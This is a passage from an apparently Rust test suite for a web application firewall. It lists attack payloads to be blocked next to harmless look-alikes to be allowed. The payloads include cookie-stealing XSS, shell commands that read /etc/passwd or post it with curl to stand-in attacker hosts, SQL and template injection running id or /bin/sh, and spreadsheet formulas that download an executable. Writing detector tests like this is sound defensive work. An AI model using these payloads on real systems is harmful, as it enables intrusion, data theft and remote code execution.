        ],
        &["see the rmi registry docs"],
    );
    table(
        "xss",
        B,
        &[
            "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
            "<object data=\"//evil.example/x.swf\"></object>",
            "<object type=\"text/html\" onerror=alert(1)></object>",
            "<embed src=//evil.example/x>",
            "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><base href=\"//evil.example/\"/></html>",
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        ],
        &[
            "<meta property=\"og:title\" content=\"The Remote Work Guide\">",
            "<meta itemprop=\"name\" content=\"Trail backpack\">",
            "<p>Entry is free.</p><object type=\"application/kenticocloud\" data-type=\"item\" data-codename=\"cta_banner\"></object>",
            "<?xml version=\"1.0\"?>\n<template name=\"order_shipped\"><subject>Your order</subject></template>",
        ],
    );
    table(
        "nodejs",
        B,
        &["/constructor/prototype/admin"],
        &["/constructors/prototypes"],
    );
    table(
        "cmdi",
        Q,
        &["date > /tmp/x; id", "x\n/???/??t /etc/passwd", "x\n/bin/*"],
        &[
            "date >= today() - 30",
            "/thank-you\n/order-confirmation\n/internal-preview/*\n/tag/*",
        ],
    );
    table(
        "sqli",
        B,
        &["SELECT * FROM Northwind.dbo.Orders"],
        &["Northwind", "Northwind product feed"],
    );
}

/// Set 26 (written before tuning): WAF-evasion tricks and what scanners send first, next to
/// the filters, policies and lists an admin console sends.
#[test]
fn scanner_probes_and_evasions_next_to_admin_values() {
    const P: FieldKind = FieldKind::Path;
    const K: FieldKind = FieldKind::QueryName;
    table(
        "scanner",
        P,
        &[
            "/actuator/env",
            "/actuator/heapdump",
            "/actuator;/heapdump",
            "/api/actuator/gateway/routes",
            "/server-status",
            "/phpinfo.php",
            "/_ignition/execute-solution",
            "/_profiler/phpinfo",
            "/elmah.axd",
            "/debug/pprof/goroutine",
            "/jolokia/list",
        ],
        &[
            "/actuator/health",
            "/actuator;jsessionid=1/health",
            "/actuator/info",
            "/docs/spring/actuator/environment.html",
            "/server-status-page/incidents",
            "/blog/what-is-phpinfo",
            "/api/v1/debug-sessions",
        ],
    );
    table(
        "scanner",
        Q,
        &[
            "PHPE9568F34-D428-11d2-A769-00AA001ACF42",
            "PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
        ],
        &["PHP-8.3.1", "php5-e9568f34"],
    );
    table(
        "php",
        Q,
        &[
            "index/\\think\\Request/input",
            "/Index/\\think\\app/invokefunction",
            "account/mail/#value",
        ],
        &["think/app/request", "account/mail/value", "#value"],
    );
    table(
        "php",
        K,
        &[
            "name[#post_render][]",
            "mail[#lazy_builder][0]",
            "name[#markup]",
        ],
        &["name[post_render]", "tags[]", "filter[#]"],
    );
    table(
        "ssrf",
        Q,
        &[
            "autodiscover/autodiscover.json?@test.com",
            "/autodiscover/autodiscover.json%3F@evil.example/PowerShell",
        ],
        &["https://autodiscover.example.com/autodiscover/autodiscover.json?Email=jane@example.com"],
    );
    table(
        "ssti",
        Q,
        &[
            "%5cu0027%2b%7b233*233%7d%2b%5cu0027",
            "'%2b#{7*7}%2b'",
            "\"%2b{@java.lang.Runtime@getRuntime()}%2b\"",
        ],
        &["'%2b{name}%2b'", "\"a\" %2b {b: 1} %2b \"c\""],
    );
    table(
        "cmdi",
        Q,
        &[
            "|%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami",
            "&%ProgramData:~0,1%%ProgramData:~9,1%d /c dir",
        ],
        &[
            "set stamp=%date:~10,4%%date:~4,2%%date:~7,2%",
            "^https://([a-z0-9-]+\\.)?example\\.com(/.*)?$",
            "^/api/(v1|v2)/users/([0-9]+)?$",
            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20240515/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=fe5f80f7",
        ],
    );
    table(
        "cmdi",
        Q,
        &["x;id;y", ";host;id", "a;uname;b"],
        &["(id)?", "content-type;host;x-amz-date", "accept;date;etag"],
    );
    table(
        "sqli",
        Q,
        &[
            "1 AND 5521 BETWEEN 5521 AND 5521",
            "1' AND 5521 BETWEEN 5521 AND 5521-- x",
            "1%20%A%N%D%20%S%L%E%E%P(5)",
            "1'.\",((,).,\"",
            "shoes)\"'.(,.)',",
        ],
        &[
            "revenue between 5000 and 25000",
            "Children aged 3 and 5 between 9 and 10am",
            "Save 20%OFF %Now",
            "noooo :'((((((((((",
            "He paused (\"...\").",
            "a,,,,,,,,,,,,b",
        ],
    );
}

/// Set 27 (written before tuning): injections into graph, search and metrics query
/// languages and malicious uploads, next to search-box syntax and documents people upload.
#[test]
fn query_languages_and_uploads_next_to_searches_and_documents() {
    const B: FieldKind = FieldKind::BodyValue;
    table(
        "nosql",
        B,
        &[
            "x'}) MATCH (u:User {username:'admin'}) SET u.passwordHash='x' RETURN u //",
            "' OR EXISTS { MATCH (u:User {name:'admin'}) WHERE u.password STARTS WITH 'a' } OR '1'='2",
            "x' CALL dbms.components() YIELD name RETURN name //",
            "x');g.V().drop().iterate();//",
            "x').V().hasLabel('user').valueMap(true)//",
            "x\" } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> \"c",
            "http://example.org/user/1> ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } #",
            "x' || true FOR s IN _users RETURN s //",
            "x\"} or {__name__=~\".+\"} or up{job=\"",
            "x\")\nfrom(bucket: \"_tasks\") |> range(start: 0) |> filter(fn: (r) => true)",
            "{!join from=owner_id to=id fromIndex=admin_secrets}*:*",
            "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example/\"><a/>'}",
            "*:*&shards=attacker.example:8983/solr/c1&qt=/select",
            "x'&$expand=Orders($select=CreditCardNumber)&$top=100000",
            "FROM .security-7,*,-logs* | KEEP username, password",
            "source=.kibana,.opendistro_security | fields *",
            "ctx._source.role = 'admin'; ctx._source.is_superuser = true",
            "ctx.op = 'delete'",
            "params['_source']['password']",
            "Debug.explain(params._source)",
            "x\" or r.host =~ /.*/ or r.host == \"",
            "x' or startswith(PasswordHash,'a') eq true or Name eq '",
            "x\" OR reporter in membersOf(\"jira-administrators\") OR text ~ \"",
            "*&size=10000&_source_includes=password,api_key",
        ],
        &[
            "match (case-insensitive) on the title",
            "Type 'delete account' to confirm",
            "{!tag=color}color:red",
            "https://search.example.com/select?q=*:*&rows=10&fl=id",
            "q=shoes&rows=20",
            "The .security team meets on Fridays",
            "ctx.value = 3",
            "_source filtering keeps responses small",
            "status:open assignee:me label:\"needs triage\"",
            "(java OR kotlin) AND NOT android",
            "He said \"match (x)\" and left",
            "repo:org/name language:go \"func main(\"",
            "summary ~ \"login\" OR description ~ \"login\" AND status = \"Open\"",
            "\"exact phrase\" or other words",
            "M&S shoes",
        ],
    );
    table(
        "ldap",
        B,
        &["admin))\u{0}", "*)(uid=*))\u{0}"],
        &["admin)", "(see note)\u{0}x"],
    );
    table(
        "dos",
        B,
        &["(((a+)+)+)+$", "name:/(\\w+)*@/", "^(.*)*x$", "([a-z]*)+$"],
        &[
            "^([a-z0-9-]+\\.)+[a-z]{2,}$",
            "(a+b)+",
            "C++ (2 hours)+",
            "(+49) 30 1234",
        ],
    );
    table(
        "code",
        B,
        &[
            "#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\n\";\nprint `$ENV{QUERY_STRING}`;\n",
            "<?php echo `$_GET['c']`; ?>",
        ],
        &["Use `$ENV` in docs", "Prices in `$` and `€`"],
    );
    table(
        "formula",
        B,
        &[
            "name,email,total\n=cmd|' /C calc'!A0,a@example.com,10\n",
            "Alice\",\"=cmd|' /C calc'!A0\",\"",
        ],
        &[
            "name,total\n=SUM(B2:B9),10\n-15.00,+49 30 1234567\n",
            "a | b, 'c'",
        ],
    );
    table(
        "xxe",
        B,
        &[
            "<?xml version=\"1.0\"?><a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:a http://attacker.example/a.xsd\"/>",
        ],
        &[
            "<?xml version=\"1.0\"?><gpx xmlns=\"http://www.topografix.com/GPX/1/1\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd\"><trk/></gpx>",
        ],
    );
    table(
        "lfi",
        B,
        &["/.git/config", "../.env", "x=.htaccess"],
        &["**/.git", "**/.env.local"],
    );
    table(
        "xss",
        B,
        &[
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(//evil.example/x.css);</style></svg>",
        ],
        &[
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n<title>Progress 72%</title>\n<style>.bar { fill: none; stroke: #2e7d32; }</style><circle class=\"bar\" r=\"4\"/></svg>",
        ],
    );
}

#[test]
fn blind_and_out_of_band_probes_next_to_everyday_text() {
    table(
        "cmdi",
        Q,
        &[
            ";(id)",
            "a;(whoami);b",
            "foo|(id)",
            "a && (whoami)",
            "x;host evil.example",
            "x;nslookup abc.oast.example",
            "1|ping -c1 x.attacker.example",
        ],
        &[
            "Tom & (Jerry)",
            "see; (note) this",
            "SignedHeaders=content-type;host;x-amz-date",
            "server;dig.example.com",
            "P(sleep | deadline) \u{2248} 0",
            "My setup: Ubuntu 22.04 | Node 20 | pnpm 8.",
            "Python 3.12 | Ruby 3.3 | PHP 8.3",
            "kubectl get pods -n prod-eu CrashLoopBackOff",
            "Pod is stuck in CrashLoopBackOff; kubectl describe shows OOMKilled.",
            "Don't forget: `kubectl rollout restart deployment/web -n prod` after changing it.",
            "docker build -t registry.example/app:1.4 .",
            "index=web status>=500 earliest=-24h | stats count by uri_path | sort -count | head 20",
        ],
    );
    // Set 29: the same tools with shell around them, or reaching out.
    table(
        "cmdi",
        Q,
        &[
            "x|(sleep 5)",
            "1| node -e \"require('child_process').exec('id')\"",
            ";kubectl get secrets -A",
            "a; docker run -v /:/host alpine chroot /host sh",
            "Run `docker run -v /:/mnt alpine` now please",
            "index=web | stats count | sort -count | curl -d @/etc/passwd x.example",
        ],
        &["Node 20, Python 3.12 (and perl 5)"],
    );
    table(
        "sqli",
        Q,
        &[
            "1; ATTACH DATABASE '\\\\sqlite.oast.example\\share\\x.db' AS x;--",
            "'; drop table users--",
            "1 and dbms_lock.sleep(5)",
        ],
        &[
            "Haha, \"drop table\" sounded scarier than it was - it's just the side table.",
            "time.sleep(2 ** attempt)",
            "except requests.Timeout:\n    time.sleep(2 * attempt)",
            "Attach database diagrams to the ticket",
        ],
    );
    table(
        "lfi",
        Q,
        &[
            "C:\\Windows\\win.ini",
            "..\\..\\windows\\system32\\config\\sam",
        ],
        &["Logs end up in C:\\Windows\\Temp\\acme-agent.log instead"],
    );
}

#[test]
fn set31_obfuscations_next_to_specs_reviews_and_config_placeholders() {
    table(
        "cmdi",
        Q,
        &[
            ";w$@h$()o$1a${z}mi",
            ";who$1a${z}mi",
            "; service --status-all",
            "|mount -o remount,rw /",
        ],
        &[
            "Food was cold; service was slow",
            "Nice hotel; screen was broken in room 12",
            "Take the A1; route 66 is closed",
            "Trial length: 14 days (was 30); expect trial→paid to move from 8.1% to ~9%",
            "Paid; mount the tires tomorrow",
        ],
    );
    table(
        "cmdi",
        Q,
        &[
            "if %1 == admin goto :run",
            "& if exist C:\\x.bat call x.bat",
        ],
        &["If plan == 'Free' && seats > 3 then prompt upgrade modal"],
    );
    table(
        "php",
        Q,
        &[
            "printf(\"%s\", file_get_contents('/etc/passwd'))",
            "\".printf('x').\"",
        ],
        &[
            "Go: fmt.Printf(\"%d items, %.2f%% done\\n\", n, pct) prints %!d(string=5), what is wrong?",
            "System.out.printf(\"%5.2f%n\", total);",
        ],
    );
    table(
        "jndi",
        FieldKind::HeaderValue,
        &["${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.home}"],
        &["${env:DATABASE_HOST:localhost}:${env:DATABASE_PORT:5432}"],
    );
}

#[test]
fn set31_exploit_endpoints_next_to_their_applications_pages() {
    table(
        "scanner",
        FieldKind::Path,
        &[
            "/webtools/control/forgotPassword;/ProgramExport",
            "/webtools/control/xmlrpc",
            "/SetupWizard.aspx/literallyanything",
            "/api/index.php/v1/config/application",
        ],
        &[
            "/webtools/control/main",
            "/SetupWizard.aspx",
            "/api/index.php/v1/content/articles",
            "/exports/program-export.csv",
        ],
    );
    table(
        "java",
        FieldKind::QueryName,
        &["bootstrapStatusProvider.applicationConfig.setupComplete"],
        &["applicationConfig.theme"],
    );
}

#[test]
fn set32_key_files_and_where_clauses_next_to_key_ids_and_prose() {
    table(
        "nosql",
        Q,
        &["'; return '' == '", "\"; return 1 == 1"],
        &[
            "It's fine'; return policy is 30 days",
            "return '' == '' in JS is true",
        ],
    );
}

#[test]
fn set33_code_and_formulas_next_to_stack_traces_citations_and_math() {
    table(
        "code",
        Q,
        &[
            "Object.const_get(:Kernel).send(:system,'id')",
            "[].class.class.const_get(:Kernel).public_send(:`, 'id')",
        ],
        &[
            "Please send(:) the invoice",
            "const_get is Ruby's constant lookup",
        ],
    );
    table(
        "sqli",
        Q,
        &[
            "'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/sh');END;--",
        ],
        &[],
    );
    table(
        "formula",
        Q,
        &[
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://198.51.100.23/p.exe\",\"C:\\Users\\Public\\p.exe\",0,0)",
            "=REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"WinExec\",,1,9)",
            "=IFERROR(WEBSERVICE(\"https://attacker.example/k?\"&B2),\"\")",
        ],
        &[
            "=IFERROR(VLOOKUP(A2,Rates!A:B,2,FALSE),0)",
            "Call \"Support\", \"Billing\" or email us",
        ],
    );
    table(
        "java",
        Q,
        &[
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "new java.io.FileInputStream(\"/etc/passwd\")",
        ],
        &[
            "java.net.SocketTimeoutException: Read timed out\n\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)\n\tat java.base/java.net.Socket$SocketInputStream.read(Socket.java:1099)",
            "Caused by: java.io.FileNotFoundException: /data/app/config/device.properties\n\tat java.io.FileInputStream.open0(Native Method)",
        ],
    );
    table(
        "php",
        Q,
        &[
            "$f('system')",
            "$x(chr(105).chr(100))",
            "$a(b);",
            "(sy.(st).em)('uname')",
            // CRS 933180's variable function calls.
            "$a(1)",
            "$$b(2)",
            "$OOO000000{0}(15)",
            "$f(101).$f(120)",
        ],
        &[
            "Let $f(x) = \\frac{1}{x}$. Then $\\sum_{i=1}^{n} \\frac{1}{i} \\approx \\ln n$.",
            "$g(x, y) = x^2 + y$ and $f(g(x))$",
            "Ashcroft v. Iqbal, 556 U.S. 662, 678 (2009) (\"a claim has facial plausibility when...\")",
        ],
    );
}

#[test]
fn set33_go_template_probes_next_to_helm_values() {
    table(
        "ssti",
        Q,
        &[
            "{{printf \"%#v\" .}}",
            "{{ .GetEnv \"AWS_SECRET_ACCESS_KEY\" }}",
        ],
        &[
            "{{ printf \"%s-%s\" .Release.Name .Chart.Name }}",
            "image: {{ .Values.image.repository }}:{{ .Chart.AppVersion }}",
        ],
    );
}

#[test]
fn set33_insert_row_breakouts_next_to_tuples_in_prose() {
    table(
        "sqli",
        FieldKind::HeaderValue,
        &[
            "127.0.0.1'),('1.1.1.1','admin',1)-- -",
            "x'),('evil',1,now());#",
        ],
        &[
            "Pairs ('a'),('b') and ('c') are listed",
            "O'Reilly (ed.), ('Learning Rust', 2nd)",
        ],
    );
}

/// Set 34: code named in prose and templates over plain data next to the same names
/// doing work.
#[test]
fn code_named_in_prose_next_to_code_that_runs() {
    table(
        "xss",
        Q,
        &[
            "';fetch('//x.example/?c='+document.cookie);//",
            "x=document.cookie.split(';')",
            "\"+document.cookie+\"",
            "document.body.innerHTML=location.hash",
            "el.innerHTML = html + payload",
            "setTimeout('alert(1)', 0)",
            "setTimeout(\"alert()\")",
            "setInterval('location=\"//x.example\"', 10)",
            "setTimeout(`fetch(x)`)",
            "<style>@import 'http://x.example/x.css';</style><h1>Statement</h1>",
            "<style>input[value^=a]{background:url(//x.example/a)}</style>",
            "<style>p{}</style><img src=x onerror=alert(1)>",
            "<script>tag=document.cookie</script>",
        ],
        &[
            "Can't see my session cookie in document.cookie",
            "DevTools shows the `sid` cookie but `document.cookie` returns an empty string. Is that expected?",
            "I assign it with `el.innerHTML = html`. The markup shows up, but the script inside never runs.",
            "Why does innerHTML ignore my <script> tags?",
            "<style>@page { size: A4; margin: 18mm 15mm; @bottom-right { content: 'Page ' counter(page); } } h1 { color: #1a237e; }</style><h1>Statement</h1>",
            "<style>table{border-collapse:collapse;width:100%}tr:nth-child(even){background:#f9f9f9}</style><table><tr><td>-42.50</td></tr></table>",
            "Our linter flags `setTimeout(\"refresh()\", 1000)` as implied eval. Rewriting as `setTimeout(refresh, 1000)` fixes it",
        ],
    );
    table(
        "nodejs",
        Q,
        &[
            "__proto__[isAdmin]=true",
            "x.__proto__.polluted=1",
            "__proto__",
        ],
        &["Disallow the use of the __proto__ property"],
    );
    table(
        "ssti",
        Q,
        &[
            "<#if 7*7==49>yes</#if>",
            "<#list .data_model?keys as k>${k}</#list>",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "{{ 'abc'.upper() }}",
            "{{ dump() }}",
            "{{ x.__class__ }}",
        ],
        &[
            "<#if user.premium>Thanks for being a premium member, ${user.firstName}!</#if>",
            "<#list items as item>${item.name}</#list>",
            "Track your parcel here: {{ order.getTrackingUrl() }}",
        ],
    );
    table(
        "php",
        Q,
        &["$t('id')", "$t(\"cat /etc/passwd\")", "$x('system')"],
        &["{{ $t('checkout.title') }}", "{{ $t('nav.home_page') }}"],
    );
    table(
        "java",
        Q,
        &[
            "Runtime.getRuntime().exec('id')",
            "#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')",
            "T(java.lang.Runtime).getRuntime().exec(\"id\")",
            "java.lang.Runtime.getRuntime",
        ],
        &[
            "Our integration uses Runtime.getRuntime().availableProcessors() to size the pool",
            "Runtime.getRuntime().freeMemory() reports 12 MB",
        ],
    );
    table(
        "cmdi",
        Q,
        &[
            "nslookup attacker.example",
            "whoami /all",
            "ifconfig eth0",
            "useradd hacker",
        ],
        &[
            "nslookup vs dig",
            "pip install -r requirements.txt",
            "apt-get install -y -qq libpq-dev",
            "apt-get update -qq",
        ],
    );
    table(
        "nosql",
        FieldKind::QueryName,
        &["username.$ne", "password.$gt"],
        &["user.name", "amount.$currency"],
    );
    table(
        "code",
        FieldKind::BodyKey,
        &["py/reduce"],
        &["py/object", "reduce"],
    );
    table(
        "redirect",
        Q,
        &[
            "https://attacker.example#@app.example.com/callback",
            "https://attacker.example?@app.example.com/callback",
        ],
        &[
            "https://app.example.com/cb?email=a@b.example",
            "https://app.example.com/#/login",
        ],
    );
}

/// Whether `value` at `scope:name` (a field of `kind`) is refused: for rules bound to
/// parameter or header names.
fn blocks_at(scope: &'static str, name: &str, kind: FieldKind, value: &str) -> bool {
    Engine::builtin()
        .inspect(
            [Field::new(
                Location::new(scope, name.to_owned()),
                kind,
                value.as_bytes(),
            )],
            &Policy::default(),
            &mut Budget::default(),
        )
        .blocks(Policy::default().threshold())
}

#[test]
fn scheme_relative_targets_in_redirect_parameters() {
    let at = |name: &str, value: &str| blocks_at("query", name, Q, value);
    assert!(at("redirect_uri", "//attacker.example/callback"));
    assert!(at("return_to", "//evil.example"));
    assert!(at("next", "//evil.example:8443/x"));
    assert!(!at("redirect_uri", "/account/settings"));
    assert!(!at("image", "//cdn.example.com/a.png"));
    assert!(!at("next", "/docs//guide"));
}

#[test]
fn routing_override_headers_naming_a_path() {
    let at = |name: &str, value: &str| blocks_at("header", name, FieldKind::HeaderValue, value);
    assert!(at("x-original-url", "/admin"));
    assert!(at("x-rewrite-url", "/admin/deleteUser?username=carlos"));
    assert!(at("x-original-url", "%2fadmin"));
    assert!(!at("x-forwarded-prefix", "/api"));
    assert!(!at("x-original-url", "n/a"));
}

#[test]
fn values_that_close_a_json_string_and_add_members() {
    table(
        "json",
        FieldKind::BodyValue,
        &[
            "bob\",\"role\":\"admin\",\"email_verified\":true,\"x\":\"",
            "x\", \"isAdmin\": true, \"y\": \"",
        ],
        &[
            "{\"a\":\"b\",\"c\":1}",
            "He said \"hi\", then left: fine",
            "Size: 8\"x11\", \"A4\" also works",
            "[\"red\",\"blue\"]",
        ],
    );
}
